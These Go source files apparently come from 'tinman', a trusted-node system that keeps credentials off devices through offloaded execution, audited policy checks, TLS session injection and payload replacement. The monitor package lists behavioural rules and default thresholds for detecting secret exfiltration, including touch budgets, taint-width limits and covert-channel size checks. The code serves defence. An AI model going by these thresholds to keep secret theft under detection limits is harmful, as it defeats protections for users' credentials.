	if err := ctx.Err(); err != nil {
		return nil, err
	}
	sh, err := s.shardEnter(req.DeviceID)
	if err != nil {
		return nil, err
	}
	defer sh.exit()
	app, err := s.buildApp(req)
	if err != nil {
		return nil, err
	}
	sh.mu.Lock()
	sh.apps[req.Name] = app
	sh.mu.Unlock()
	return &InstallResult{Hash: app.hash, CodeSize: app.prog.CodeSize()}, nil
}

// app looks up the hosted app for (deviceID, name).
func (s *Service) app(deviceID, name string) (*hostedApp, error) {
	sh := s.lookupShard(deviceID)
	if sh == nil {
		return nil, errf(ErrUnknownApp, "app %q not installed", name)
	}
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if a := sh.apps[name]; a != nil {
		return a, nil
	}
	return nil, errf(ErrUnknownApp, "app %q not installed", name)
}

// SetAppLocks shares the endpoint-pair lock table with the node side (the
// in-process World wires both halves to one table).
func (s *Service) SetAppLocks(deviceID, name string, lt *dsm.LockTable) {
	app, err := s.app(deviceID, name)
	if err != nil {
		return
	}
	app.locks = lt
	app.machine.Hooks.OnMonitorEnter = func(o *vm.Object) bool {
		return !lt.Acquire(o.ID, dsm.NodeSide)
	}
	app.machine.Hooks.OnMonitorExit = func(o *vm.Object) { lt.Release(o.ID) }
}

// Stats reports the node-side counters after an offload episode (Table 3).
type Stats struct {
	Instrs     uint64
	Calls      uint64
	Syncs      int
	InitBytes  int
	DirtyBytes int
}

// OffloadResult is one completed offload round: the encoded reply migration
// plus accounting.
type OffloadResult struct {
	Bytes []byte
	// Executed counts instructions run on the node during this episode
	// (the transport's compute-cost input).
	Executed uint64
	Stats    Stats
}

// WarmupChunk applies one background warm-up chunk to the app's node-side
// heap (the speculative pre-migration pipeline, dsm/warmup.go). Chunks carry
// the same masked wire form as migrations — cor IDs only, materialized from
// the vault on this side — so pre-applying them moves no plaintext off the
// node; the offload-time policy checks still gate any *use* of the warmed
// state. Any ordering or apply error drops the buffered epoch and surfaces
// to the sender, which falls back to the cold path.
func (s *Service) WarmupChunk(ctx context.Context, deviceID, appName string, chunkBytes []byte) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	sh := s.lookupShard(deviceID)
	if sh == nil {
		return errf(ErrUnknownApp, "app %q not installed", appName)
	}
	if err := sh.enter(); err != nil {
		return err
	}
	defer sh.exit()
	app, err := s.app(deviceID, appName)
	if err != nil {
		return err
	}
	c, err := dsm.DecodeWarmupChunk(chunkBytes)
	if err != nil {
		return badRequest(err)
	}
	var span *obs.Span
	if parent := obs.SpanFromContext(ctx); parent != nil {
		span = parent.Child(obs.PhaseDSMWarmup,
			obs.App(app.hash), obs.Count(int64(len(c.Objects))), obs.Bytes(len(chunkBytes)))
	}
	app.runMu.Lock()
	defer app.runMu.Unlock()
	// Refresh the server-only mask: a class change since install must take
	// effect on the very next chunk.
	app.ep.Restricted = s.Cors.RestrictedMask()
	if err := app.ep.ApplyWarmupChunk(c); err != nil {
		span.Add(obs.Outcome(false))
		span.End()
		return s.denyRestricted(err, app.hash, deviceID)
	}
	s.warm.chunks.Add(1)
	s.met.warmChunks.Inc()
	span.Add(obs.Outcome(true))
	span.End()
	return nil
}

// Offload is the offload entry point: policy-check every cor reachable from
// the trigger tag (§3.4), apply the migration, run the thread under full
// tainting with the behavioral monitor watching, and capture the reply.
func (s *Service) Offload(ctx context.Context, deviceID, appName string, migBytes []byte) (*OffloadResult, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	arrived := s.clock()
	sh := s.lookupShard(deviceID)
	if sh == nil {
		return nil, errf(ErrUnknownApp, "app %q not installed", appName)
	}
	if err := sh.enter(); err != nil {
		return nil, err
	}
	defer sh.exit()
	app, err := s.app(deviceID, appName)
	if err != nil {
		return nil, err
	}
	mig, err := dsm.DecodeMigration(migBytes)
	if err != nil {
		return nil, badRequest(err)
	}

	// §3.4: every cor access is checked against the app binding and logged.
	trigger := taint.Tag(mig.TriggerTag)
	parent := obs.SpanFromContext(ctx)
	for _, rec := range s.Cors.ByTag(trigger) {
		var span *obs.Span
		if parent != nil {
			span = parent.Child(obs.PhasePolicyCheck,
				obs.Cor(rec.ID), obs.App(app.hash))
		}
		s.met.policyChecks.Inc()
		acc := policy.Access{CorID: rec.ID, AppHash: app.hash, DeviceID: deviceID, Class: rec.Class}
		stamp, perr := s.Policy.CheckStamped(acc)
		if perr != nil {
			s.met.policyDenials.Inc()
			if aerr := s.auditAppendStamped(stamp, app.hash, rec.ID, deviceID, "", audit.OutcomeDenied, perr.Error()); aerr != nil {
				span.End()
				return nil, aerr
			}
			if d, ok := policy.IsDenial(perr); ok {
				span.Add(obs.Outcome(false), obs.Reason(d.Reason.String()))
				span.End()
				return nil, denied(d)
			}
			span.Add(obs.Outcome(false), obs.Err(obs.ErrBadRequest))
			span.End()
			return nil, badRequest(perr)
		}
		if aerr := s.auditAppendStamped(stamp, app.hash, rec.ID, deviceID, "", audit.OutcomeAllowed, "offloaded access"); aerr != nil {
			span.End()
			return nil, aerr
		}
		span.Add(obs.Outcome(true))
		span.End()
	}

	app.runMu.Lock()
	defer app.runMu.Unlock()
	// Refresh the server-only mask before admitting or capturing state.
	app.ep.Restricted = s.Cors.RestrictedMask()

	// Warm-path admission: the migration's delta only makes sense against a
	// ready warm-up with exactly the declared epoch; anything else (torn
	// warm-up, reconnect, handoff to a node that never saw the chunks) is a
	// warm miss and the device must resend the full snapshot. A cold full
	// snapshot conversely invalidates any leftover warm state.
	if mig.WarmEpoch != 0 {
		if !app.ep.ConsumeWarmup(mig.WarmEpoch) {
			s.warm.misses.Add(1)
			s.met.warmMisses.Inc()
			return nil, errf(ErrWarmStale, "warm epoch %d not ready for %s/%s", mig.WarmEpoch, deviceID, appName)
		}
		s.warm.hits.Add(1)
		s.met.warmHits.Inc()
	} else if mig.Initial {
		app.ep.DropWarmup()
	}

	th, err := app.ep.ApplyMigration(mig)
	if err != nil {
		return nil, s.denyRestricted(err, app.hash, deviceID)
	}
	var (
		stop     = vm.StopDone
		executed uint64
	)
	if th != nil {
		app.machine.ResetIdle()
		app.mon.BeginEpisode()
		// Resume latency: migration arrival to first node instruction.
		s.warm.resumeNs.Add(int64(s.clock().Sub(arrived)))
		s.warm.resumes.Add(1)
		before := app.machine.Instrs
		st, runErr := th.Run()
		executed = app.machine.Instrs - before
		if runErr != nil {
			return nil, errf(ErrExecution, "offloaded thread: %v", runErr)
		}
		if app.mon.CriticalRaised() {
			findings := app.mon.Findings()
			return nil, errf(ErrExecution, "dynamic analysis aborted the episode: %v", findings[len(findings)-1])
		}
		stop = st
	}
	// th == nil is a pure state sync: ack with an empty node sync.
	reply, err := app.ep.CaptureMigration(th, stop)
	if err != nil {
		return nil, s.denyRestricted(err, app.hash, deviceID)
	}
	return &OffloadResult{
		Bytes:    reply.Encode(),
		Executed: executed,
		Stats: Stats{
			Instrs:     app.machine.Instrs,
			Calls:      app.machine.Calls,
			Syncs:      app.ep.Stats.Syncs,
			InitBytes:  app.ep.Stats.InitBytes,
			DirtyBytes: app.ep.Stats.DirtyBytes,
		},
	}, nil
}

// --- SSL session injection and TCP payload replacement (§3.2–§3.3) ---

// InjectionKey identifies the TCP flow an injection is armed for.
type InjectionKey struct {
	ClientAddr string `json:"client_addr"`
	ClientPort uint16 `json:"client_port"`
	ServerAddr string `json:"server_addr"`
	ServerPort uint16 `json:"server_port"`
}

// InjectRequest arms payload replacement for an imminent marked record
// (fig 8 steps 1–2).
type InjectRequest struct {
	DeviceID string
	App      string
	CorID    string
	Domain   string
	Key      InjectionKey
	State    json.RawMessage
}

type pendingInjection struct {
	appHash  string
	deviceID string
	corID    string
	domain   string
	state    *tlssim.State
	// raw keeps the marshaled state so a shard export can carry the armed
	// injection to another node without re-marshaling.
	raw json.RawMessage
}

// ArmInjection enforces the send-time policy (§3.4 second binding) and
// records the session state for the flow's one-shot payload replacement.
func (s *Service) ArmInjection(ctx context.Context, req InjectRequest) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	app, err := s.app(req.DeviceID, req.App)
	if err != nil {
		return err
	}
	sh, err := s.shardEnter(req.DeviceID)
	if err != nil {
		return err
	}
	defer sh.exit()
	rec := s.Cors.Get(req.CorID)
	if rec == nil {
		return errf(ErrUnknownCor, "unknown cor %q", req.CorID)
	}
	checkID, stamp, err := s.checkSend(ctx, rec, app.hash, req.DeviceID, req.Domain, req.Key.ServerAddr)
	if err != nil {
		return err
	}
	st, err := tlssim.UnmarshalState(req.State)
	if err != nil {
		return badRequest(err)
	}
	// The modified client library refuses TLS 1.0 before ever reaching this
	// point; the node double-checks (defense in depth, §3.2).
	if st.Version <= tlssim.TLS10 {
		e := errf(ErrWeakTLS, "refusing session injection for %v (implicit-IV leak, fig 7)", st.Version)
		if aerr := s.auditAppendStamped(stamp, app.hash, checkID, req.DeviceID, req.Domain, audit.OutcomeDenied, e.Error()); aerr != nil {
			return aerr
		}
		return e
	}
	sh.mu.Lock()
	sh.injections[req.Key] = &pendingInjection{
		appHash: app.hash, deviceID: req.DeviceID,
		corID: req.CorID, domain: req.Domain, state: st,
		raw: append(json.RawMessage(nil), req.State...),
	}
	sh.mu.Unlock()
	s.mu.Lock()
	s.flows[req.Key] = req.DeviceID
	s.mu.Unlock()
	return s.auditAppendStamped(stamp, app.hash, checkID, req.DeviceID, req.Domain, audit.OutcomeAllowed, "ssl session injected")
}

// ReplacePayload is the payload-replacement hook (fig 8 step 4): swap the
// placeholder-bearing marked record for the cor-bearing one. The armed
// injection is one-shot. Replacement is keyed by TCP flow alone; the flow
// index routes it to the owning device's shard.
func (s *Service) ReplacePayload(ctx context.Context, key InjectionKey, recordLen int) ([]byte, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	s.mu.Lock()
	deviceID, ok := s.flows[key]
	delete(s.flows, key)
	s.mu.Unlock()
	var inj *pendingInjection
	if ok {
		if sh := s.lookupShard(deviceID); sh != nil {
			sh.mu.Lock()
			inj = sh.injections[key]
			delete(sh.injections, key)
			sh.mu.Unlock()
		}
	}
	if inj == nil {
		return nil, errf(ErrNoInjection, "no armed injection for %s:%d -> %s:%d",
			key.ClientAddr, key.ClientPort, key.ServerAddr, key.ServerPort)
	}
	rec := s.Cors.Get(inj.corID)
	if rec == nil {
		return nil, errf(ErrUnknownCor, "cor %q vanished", inj.corID)
	}
	// vault_open brackets the only stretch where the cor plaintext is live
	// outside the store; the span carries only the cor ID and output size.
	var vspan *obs.Span
	if parent := obs.SpanFromContext(ctx); parent != nil {
		vspan = parent.Child(obs.PhaseVaultOpen, obs.Cor(inj.corID))
	}
	s.met.vaultOpens.Inc()
	sess, err := tlssim.Resume(inj.state, nil)
	if err != nil {
		vspan.Add(obs.Err(obs.ErrBadRequest))
		vspan.End()
		return nil, badRequest(err)
	}
	out, err := sess.Seal(tlssim.TypeApplicationData, []byte(rec.Plaintext))
	if err != nil {
		vspan.Add(obs.Err(obs.ErrBadRequest))
		vspan.End()
		return nil, badRequest(err)
	}
	vspan.Add(obs.Bytes(len(out)))
	vspan.End()
	if recordLen > 0 && len(out) != recordLen {
		return nil, errf(ErrRecordLength, "resealed record %dB != placeholder record %dB (would desynchronize TCP)", len(out), recordLen)
	}
	if aerr := s.auditAppend(inj.appHash, inj.corID, inj.deviceID, inj.domain, audit.OutcomeAllowed, "payload replaced"); aerr != nil {
		return nil, aerr
	}
	return out, nil
}

// corResolver adapts the cor store to the DSM resolver interface for one
// device's hosted apps.
type corResolver struct {
	svc      *Service
	deviceID string
}

// Fill returns plaintext for the cor.
func (r *corResolver) Fill(id string, length int) (string, taint.Tag, bool) {
	rec := r.svc.Cors.Get(id)
	if rec == nil {
		return "", taint.None, false
	}
	return rec.Plaintext, rec.Tag(), true
}

// MaskID mints a derived cor for a freshly tainted string (the concatenated
// request of fig 11 is "a new cor").
func (r *corResolver) MaskID(o *vm.Object) string {
	parents := r.svc.Cors.ByTag(o.Tag)
	if len(parents) == 0 {
		return ""
	}
	id := r.svc.mintDerivedID(r.deviceID, parents[0].ID)
	if _, err := r.svc.Cors.Derive(parents[0].ID, id, o.Str); err != nil {
		return ""
	}
	// The resolver interface cannot surface an error; an unmasked string
	// ("" here) keeps the derived cor out of circulation when it could not
	// be made durable.
	if err := r.svc.durVaultRec(id); err != nil {
		return ""
	}
	return id
}

// mintDerivedID allocates the device's next derived-cor ID under its shard
// lock and records the lineage for shard export. The ID carries the device
// so two devices' mints can never collide fleet-wide.
func (s *Service) mintDerivedID(deviceID, parentID string) string {
	sh := s.shard(deviceID)
	sh.mu.Lock()
	sh.derivedSeq++
	n := sh.derivedSeq
	id := fmt.Sprintf("derived-%s-%s-%d", parentID, deviceID, n)
	sh.derived = append(sh.derived, derivedCor{ID: id, Parent: parentID})
	sh.mu.Unlock()
	return id
}

// registerNativeStubs installs non-offloadable stubs: the gate stops the
// thread before any of these would execute on the node, forcing a migration
// back to the device (§3.1 case 2).
func registerNativeStubs(machine *vm.VM, names []string) {
	for _, name := range names {
		name := name
		machine.RegisterNative(&vm.NativeDef{
			Name:        name,
			Offloadable: false,
			Fn: func(t *vm.Thread, args []vm.Value) (vm.Value, error) {
				return vm.Value{}, fmt.Errorf("node: native %s must not execute on the trusted node", name)
			},
		})
	}
	machine.Hooks.NativeGate = func(def *vm.NativeDef) bool { return !def.Offloadable }
}
