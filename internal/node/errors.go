package node

import (
	"errors"
	"fmt"

	"tinman/internal/policy"
)

// The service's error taxonomy. Every error the Service returns matches at
// least one of these sentinels under errors.Is, so transports and callers
// branch on kinds instead of error text. Policy refusals additionally carry
// the *policy.Denial itself, extractable with errors.As.
var (
	// ErrDenied marks any policy refusal (it is policy.ErrDenied, so a bare
	// *policy.Denial and a service error match the same sentinel).
	ErrDenied = policy.ErrDenied
	// ErrRevoked marks denials caused by device revocation (stolen phone).
	ErrRevoked = errors.New("node: device access revoked")
	// ErrMalware marks denials caused by a malware-DB hit.
	ErrMalware = errors.New("node: application is known malware")
	// ErrUnknownCor marks references to a cor the vault does not hold.
	ErrUnknownCor = errors.New("node: unknown cor")
	// ErrUnknownApp marks references to an app not installed for the device.
	ErrUnknownApp = errors.New("node: app not installed")
	// ErrBadRequest marks malformed or unprocessable requests.
	ErrBadRequest = errors.New("node: bad request")
	// ErrWeakTLS marks session state the node refuses to join (TLS ≤ 1.0:
	// implicit-IV CBC state sync leaks plaintext, fig 7).
	ErrWeakTLS = errors.New("node: TLS version too low for session injection")
	// ErrRecordLength marks a reseal whose output would desynchronize TCP.
	ErrRecordLength = errors.New("node: resealed record length mismatch")
	// ErrNoInjection marks payload replacement without an armed injection.
	ErrNoInjection = errors.New("node: no armed injection")
	// ErrExecution marks offloaded code that faulted or was aborted by the
	// dynamic-analysis monitor.
	ErrExecution = errors.New("node: offloaded execution failed")
	// ErrNodeUnavailable marks operations refused because the trusted node
	// is unreachable: the channel's retry budget is exhausted or its
	// circuit breaker is open, and the device is in cor-degraded mode
	// (§5.4 connectivity) — untainted work proceeds, cor-touching work
	// fails fast with this sentinel until the node comes back.
	ErrNodeUnavailable = errors.New("node: trusted node unavailable")
	// ErrShardDraining marks requests rejected because the device's shard is
	// mid-handoff: the service quiesces the shard before export, and new
	// work must retry against the importing node.
	ErrShardDraining = errors.New("node: device shard draining")
	// ErrUnknownDevice marks shard operations on a device this node does not
	// host.
	ErrUnknownDevice = errors.New("node: unknown device")
	// ErrNotOwner marks device-keyed requests that reached a node the fleet
	// placement does not route the device to; the wire layer attaches the
	// owning member so clients can redirect.
	ErrNotOwner = errors.New("node: not the owning node for device")
	// ErrWarmStale marks a warm-path migration whose speculative warm-up
	// epoch this node does not hold ready (torn warm-up, reconnect, shard
	// handoff). The device must fall back to the cold full-snapshot path.
	ErrWarmStale = errors.New("node: warm-up epoch stale or missing")
	// ErrNotDurable marks a mutation the attached storage engine failed to
	// commit: the WAL append or its fsync errored, so the change was never
	// acknowledged as durable. The store fails sticky, so the node must be
	// restarted (recovering from the last durable state) before it accepts
	// further mutations.
	ErrNotDurable = errors.New("node: mutation not durable")
)

// Error is the service's error type: a human-readable message (kept
// byte-compatible with the pre-refactor transports) plus the sentinel and,
// for policy refusals, the denial it wraps.
type Error struct {
	kind   error
	denial *policy.Denial
	cause  error
	msg    string
}

func (e *Error) Error() string { return e.msg }

// Unwrap exposes the sentinel, the denial, and the cause to errors.Is/As.
func (e *Error) Unwrap() []error {
	out := make([]error, 0, 3)
	if e.kind != nil {
		out = append(out, e.kind)
	}
	if e.denial != nil {
		out = append(out, e.denial)
	}
	if e.cause != nil {
		out = append(out, e.cause)
	}
	return out
}

// Denial returns the wrapped policy denial, if any.
func (e *Error) Denial() *policy.Denial { return e.denial }

// errf builds a sentinel-tagged error with a formatted message.
func errf(kind error, format string, args ...any) *Error {
	return &Error{kind: kind, msg: fmt.Sprintf(format, args...)}
}

// badRequest wraps an underlying error verbatim: the message stays
// byte-identical to what the cause would have produced on the wire.
func badRequest(err error) *Error {
	return &Error{kind: ErrBadRequest, cause: err, msg: err.Error()}
}

// denied wraps a policy denial, attaching its reason-specific sentinel.
func denied(d *policy.Denial) *Error {
	return &Error{kind: SentinelForReason(d.Reason), denial: d, msg: d.Error()}
}

// SentinelForReason maps a policy reason to the finest-grained sentinel;
// every denial also matches ErrDenied regardless (via the wrapped Denial).
func SentinelForReason(r policy.Reason) error {
	switch r {
	case policy.ReasonRevoked:
		return ErrRevoked
	case policy.ReasonMalware:
		return ErrMalware
	default:
		return ErrDenied
	}
}

// Denied wraps a denial message that arrived as text over a transport so
// callers can still test errors.Is(err, ErrDenied). Error() returns msg
// unchanged, keeping wrapped transport messages byte-compatible.
func Denied(msg string) error {
	return &Error{kind: ErrDenied, msg: msg}
}
