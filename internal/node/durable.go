package node

import (
	"context"
	"encoding/json"
	"sort"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/policy"
	"tinman/internal/store"
)

// This file wires the crash-safe storage engine (internal/store) under the
// Service: once a store is attached, every vault mutation, audit append,
// and policy change is written to the WAL and fsynced before the operation
// is acknowledged, and AttachStore itself restores a freshly recovered
// store's state into an empty Service — the trusted node's boot path after
// kill -9.
//
// Ordering invariant: the node's audit Seq order must equal the WAL's LSN
// order, so that a torn WAL tail only ever truncates a suffix of the audit
// log and can never create a Seq gap. durMu serializes "mint Seq + append
// to the in-memory log + enqueue to the WAL" as one atomic step; the fsync
// wait happens outside the lock, so concurrent appends still share group
// commits.

// AttachStore restores st's recovered state into the Service and enables
// durable logging. The Service must be fresh (no cors, no audit entries):
// restore replays the vault in original bit order so placeholder taint
// bits in the field keep matching, replays policy ops, restores the audit
// log (with anomaly rescan), and re-attaches device shards at their
// per-device audit sequence floors.
func (s *Service) AttachStore(ctx context.Context, st *store.Store) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	if st == nil {
		return errf(ErrBadRequest, "nil store")
	}
	if st.ReadOnly() {
		return errf(ErrBadRequest, "cannot attach a read-only store")
	}
	if s.Cors.Len() != 0 || s.Audit.Len() != 0 {
		return errf(ErrBadRequest, "AttachStore requires a fresh service (have %d cors, %d audit entries)",
			s.Cors.Len(), s.Audit.Len())
	}
	state := st.State()

	// Vault: primaries first (the first record seen per bit — parents are
	// always logged before their deriveds), in ascending bit order so
	// sequential re-registration reproduces the original bit assignment.
	seen := map[int]bool{}
	var primaries []store.VaultRecord
	for _, r := range state.Vault {
		if !seen[r.Bit] {
			seen[r.Bit] = true
			primaries = append(primaries, r)
		}
	}
	sort.Slice(primaries, func(i, j int) bool { return primaries[i].Bit < primaries[j].Bit })
	for _, r := range primaries {
		if _, err := s.Cors.Register(r.ID, r.Plaintext, r.Description, r.Whitelist...); err != nil {
			return errf(ErrBadRequest, "restoring cor %s: %v", r.ID, err)
		}
		if r.Whitelist != nil {
			s.Policy.SetWhitelist(r.ID, r.Whitelist)
		}
		cls, err := cor.ParseClass(r.Class)
		if err != nil {
			return errf(ErrBadRequest, "restoring cor %s: %v", r.ID, err)
		}
		if cls != cor.DefaultClass {
			if err := s.Cors.SetClass(r.ID, cls); err != nil {
				return errf(ErrBadRequest, "restoring cor %s class: %v", r.ID, err)
			}
		}
	}
	for _, r := range state.Vault {
		if s.Cors.Get(r.ID) != nil {
			continue // restored as a primary
		}
		parent := s.Cors.ByBit(r.Bit)
		if parent == nil {
			return errf(ErrBadRequest, "restoring derived cor %s: no parent with bit %d", r.ID, r.Bit)
		}
		if _, err := s.Cors.Derive(parent.ID, r.ID, r.Plaintext); err != nil {
			return errf(ErrBadRequest, "restoring derived cor %s: %v", r.ID, err)
		}
	}

	// Policy ops, in original order. Snapshot installs replay exactly as
	// they were accepted, so after the loop the engine holds the last
	// accepted document plus any later per-op mutations.
	for _, op := range state.Policy {
		switch op.Op {
		case store.PolicyBind:
			s.Policy.BindApp(op.CorID, op.AppHash)
		case store.PolicyRevoke:
			s.Policy.Revoke(op.DeviceID)
		case store.PolicyRestore:
			s.Policy.Restore(op.DeviceID)
		case store.PolicySnapshot:
			var snap policy.Snapshot
			if err := json.Unmarshal(op.Snapshot, &snap); err != nil {
				return errf(ErrBadRequest, "decoding durable policy snapshot v%d: %v", op.Version, err)
			}
			if _, err := s.Policy.Install(&snap); err != nil {
				return errf(ErrBadRequest, "replaying durable policy snapshot v%d: %v", op.Version, err)
			}
		default:
			return errf(ErrBadRequest, "unknown durable policy op %q", op.Op)
		}
	}

	// Audit log, then shards at their per-device sequence floors so the
	// next minted DeviceSeq continues gap-free.
	s.Audit.Restore(state.Audit)
	floors := map[string]uint64{}
	for _, e := range state.Audit {
		if e.DeviceID != "" && e.DeviceSeq > floors[e.DeviceID] {
			floors[e.DeviceID] = e.DeviceSeq
		}
	}
	for dev, floor := range floors {
		s.AttachShard(dev, floor)
	}

	s.durMu.Lock()
	s.dur = st
	s.durMu.Unlock()
	return nil
}

// DurableStore returns the attached store (nil when the service runs
// in-memory only).
func (s *Service) DurableStore() *store.Store {
	s.durMu.Lock()
	defer s.durMu.Unlock()
	return s.dur
}

// durStore reads the attached store.
func (s *Service) durStore() *store.Store {
	s.durMu.Lock()
	defer s.durMu.Unlock()
	return s.dur
}

// durVaultRec logs a vault mutation and waits for its fsync. Callers hold
// no Service locks.
func (s *Service) durVaultRec(id string) error {
	st := s.durStore()
	if st == nil {
		return nil
	}
	rec := s.Cors.Get(id)
	if rec == nil {
		return errf(ErrUnknownCor, "cor %q vanished before durable log", id)
	}
	tk := st.AppendVault(store.VaultRecord{
		ID: rec.ID, Plaintext: rec.Plaintext, Description: rec.Description,
		Whitelist: rec.Whitelist, Bit: rec.Bit, Class: string(rec.Class),
	})
	if err := tk.Wait(context.Background()); err != nil {
		return errf(ErrNotDurable, "cor %s not durable: %v", id, err)
	}
	return nil
}

// durPolicy logs a policy mutation and waits for its fsync.
func (s *Service) durPolicy(op store.PolicyOp) error {
	st := s.durStore()
	if st == nil {
		return nil
	}
	if err := st.AppendPolicy(op).Wait(context.Background()); err != nil {
		return errf(ErrNotDurable, "policy %s not durable: %v", op.Op, err)
	}
	return nil
}

// auditAppendDurable is the durable half of Service.auditAppend: mint the
// per-device sequence, append to the in-memory log, and enqueue to the WAL
// as one durMu-serialized step (Seq order == LSN order), then wait for the
// group commit outside the lock. The caller builds the entry (including the
// policy stamp); Seq/Time/DeviceSeq are minted here.
func (s *Service) auditAppendDurable(st *store.Store, e audit.Entry) error {
	s.durMu.Lock()
	if e.DeviceID != "" {
		e.DeviceSeq = s.shard(e.DeviceID).nextAuditSeq()
	}
	e = s.Audit.AppendEntry(e)
	tk := st.AppendAudit(e)
	s.durMu.Unlock()
	if err := tk.Wait(context.Background()); err != nil {
		return errf(ErrNotDurable, "audit entry %d not durable: %v", e.Seq, err)
	}
	return nil
}
