// Package monitor implements the trusted node's dynamic analysis of
// offloaded code — the extension the paper sketches in §3.4 ("It is our
// future work to deploy more dynamic analysis methods on TinMan") and §8
// ("leverage massive knowledge and statistical analysis to detect anomaly
// behavior").
//
// A Monitor attaches to the trusted node's VM and watches the offloaded
// thread's behavior around cor accesses. It raises findings for patterns
// that precede exfiltration attempts:
//
//   - excessive cor touches per offload episode (credential stuffing /
//     brute-force style behavior);
//   - taint-width explosions: a single episode combining many distinct cors
//     (legitimate logins touch one secret lineage);
//   - laundering probes: code inspecting taint tags (taintget), which
//     honest apps never do;
//   - oversized derived cors: derived secrets far larger than their
//     parents, the signature of stuffing a cor into a covert channel.
package monitor

import (
	"fmt"
	"sync"

	"tinman/internal/taint"
	"tinman/internal/vm"
)

// Severity ranks findings.
type Severity uint8

const (
	// Info findings are recorded but not alarming alone.
	Info Severity = iota
	// Warning findings deserve an audit entry.
	Warning
	// Critical findings should abort the episode.
	Critical
)

func (s Severity) String() string {
	switch s {
	case Info:
		return "info"
	case Warning:
		return "warning"
	case Critical:
		return "critical"
	}
	return fmt.Sprintf("Severity(%d)", uint8(s))
}

// Finding is one detected behavior.
type Finding struct {
	Severity Severity
	Rule     string
	Detail   string
}

func (f Finding) String() string {
	return fmt.Sprintf("[%s] %s: %s", f.Severity, f.Rule, f.Detail)
}

// Config tunes the detection thresholds.
type Config struct {
	// MaxCorTouches is the per-episode budget of tainted accesses before a
	// warning (default 10000 — hashing loops touch the secret repeatedly).
	MaxCorTouches uint64
	// MaxDistinctCors bounds how many cor lineages one episode may combine
	// (default 4; a login touches 1-2, a browser form a few).
	MaxDistinctCors int
	// MaxDerivedBytes bounds a derived string's size relative to typical
	// requests (default 16 KiB).
	MaxDerivedBytes int
	// OnFinding receives findings as they happen (e.g. to append audit
	// entries); nil collects them silently.
	OnFinding func(Finding)
}

// fill applies defaults.
func (c *Config) fill() {
	if c.MaxCorTouches == 0 {
		c.MaxCorTouches = 10000
	}
	if c.MaxDistinctCors == 0 {
		c.MaxDistinctCors = 4
	}
	if c.MaxDerivedBytes == 0 {
		c.MaxDerivedBytes = 16 << 10
	}
}

// Monitor watches one trusted-node VM.
type Monitor struct {
	cfg Config

	mu       sync.Mutex
	findings []Finding

	// episode state
	touches  uint64
	seenTags taint.Tag
	critical bool
}

// New creates a monitor with the given thresholds.
func New(cfg Config) *Monitor {
	cfg.fill()
	return &Monitor{cfg: cfg}
}

// Attach installs the monitor on the node VM, chaining existing hooks. The
// monitor's OnTaintedAccess never requests migration; it only observes.
func (m *Monitor) Attach(machine *vm.VM) {
	prevTaint := machine.Hooks.OnTaintedAccess
	machine.Hooks.OnTaintedAccess = func(tag taint.Tag, ev taint.Event) bool {
		m.noteTaintedAccess(tag, ev)
		if prevTaint != nil {
			return prevTaint(tag, ev)
		}
		return false
	}
}

// BeginEpisode resets per-episode state (the node calls it when a migrated
// thread arrives).
func (m *Monitor) BeginEpisode() {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.touches = 0
	m.seenTags = taint.None
	m.critical = false
}

// noteTaintedAccess applies the per-access rules.
func (m *Monitor) noteTaintedAccess(tag taint.Tag, ev taint.Event) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.touches++
	if m.touches == m.cfg.MaxCorTouches+1 {
		m.raise(Finding{
			Severity: Warning,
			Rule:     "cor-touch-budget",
			Detail:   fmt.Sprintf("episode exceeded %d tainted accesses", m.cfg.MaxCorTouches),
		})
	}
	before := m.seenTags.Count()
	m.seenTags = m.seenTags.Union(tag)
	if after := m.seenTags.Count(); after > m.cfg.MaxDistinctCors && before <= m.cfg.MaxDistinctCors {
		m.raise(Finding{
			Severity: Critical,
			Rule:     "taint-width",
			Detail:   fmt.Sprintf("episode combined %d distinct cor lineages (limit %d)", after, m.cfg.MaxDistinctCors),
		})
	}
}

// NoteDerived applies the derived-cor size rule (the node's resolver calls
// it when minting a derived cor).
func (m *Monitor) NoteDerived(corID string, size int) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if size > m.cfg.MaxDerivedBytes {
		m.raise(Finding{
			Severity: Critical,
			Rule:     "derived-size",
			Detail:   fmt.Sprintf("derived cor %s is %d bytes (limit %d): possible covert channel", corID, size, m.cfg.MaxDerivedBytes),
		})
	}
}

// NoteTaintProbe flags code that inspects taint tags (OpTaintGet executed in
// offloaded code) — honest apps have no reason to.
func (m *Monitor) NoteTaintProbe(method string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.raise(Finding{
		Severity: Warning,
		Rule:     "taint-probe",
		Detail:   fmt.Sprintf("offloaded code in %s inspected taint tags", method),
	})
}

// raise records a finding (caller holds the lock).
func (m *Monitor) raise(f Finding) {
	m.findings = append(m.findings, f)
	if f.Severity == Critical {
		m.critical = true
	}
	if m.cfg.OnFinding != nil {
		// The callback runs inline under the monitor's lock: it must not
		// re-enter the monitor. Findings are rare, so the simplicity wins.
		m.cfg.OnFinding(f)
	}
}

// CriticalRaised reports whether the current episode hit a critical rule;
// the node uses it to refuse the episode's results.
func (m *Monitor) CriticalRaised() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.critical
}

// Findings returns all findings so far.
func (m *Monitor) Findings() []Finding {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]Finding(nil), m.findings...)
}

// Touches returns the episode's tainted-access count.
func (m *Monitor) Touches() uint64 {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.touches
}
