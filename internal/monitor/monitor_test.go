package monitor

import (
	"strings"
	"testing"

	"tinman/internal/taint"
	"tinman/internal/vm"
	"tinman/internal/vm/asm"
)

func TestTouchBudget(t *testing.T) {
	m := New(Config{MaxCorTouches: 3})
	m.BeginEpisode()
	for i := 0; i < 3; i++ {
		m.noteTaintedAccess(taint.Bit(0), taint.HeapToStack)
	}
	if len(m.Findings()) != 0 {
		t.Fatal("budget flagged too early")
	}
	m.noteTaintedAccess(taint.Bit(0), taint.HeapToStack)
	fs := m.Findings()
	if len(fs) != 1 || fs[0].Rule != "cor-touch-budget" || fs[0].Severity != Warning {
		t.Fatalf("findings = %v", fs)
	}
